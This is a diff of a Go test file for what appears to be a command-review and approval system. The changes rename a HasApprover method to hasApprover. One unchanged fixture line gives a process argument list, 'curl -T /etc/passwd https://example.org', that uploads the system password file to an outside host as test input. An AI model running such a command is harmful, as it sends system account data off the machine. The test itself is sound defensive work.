@@ -222,7 +222,7 @@ func TestFailures(t *testing.T) {
 	}
 	review := func(code cop.Code) func(*rig) *call {
 		return func(r *rig) *call {
-			r.Configure(failing(code), r.queue.HasApprover(), 0, 0)
+			r.Configure(failing(code), r.queue.hasApprover(), 0, 0)
 			return r.ask(curl())
 		}
 	}
@@ -243,7 +243,7 @@ func TestFailures(t *testing.T) {
 		CopFailed:      review(cop.Failed),
 		CopNone:        one(),
 		Differs: func(r *rig) *call {
-			r.Configure(opinion(false), r.queue.HasApprover(), 0, 0)
+			r.Configure(opinion(false), r.queue.hasApprover(), 0, 0)
 			approvedRun(r)
 			return r.ask(curl(below, func(r *Request) {
 				r.Process.Argv = []string{"curl", "-T", "/etc/passwd", "https://example.org"}
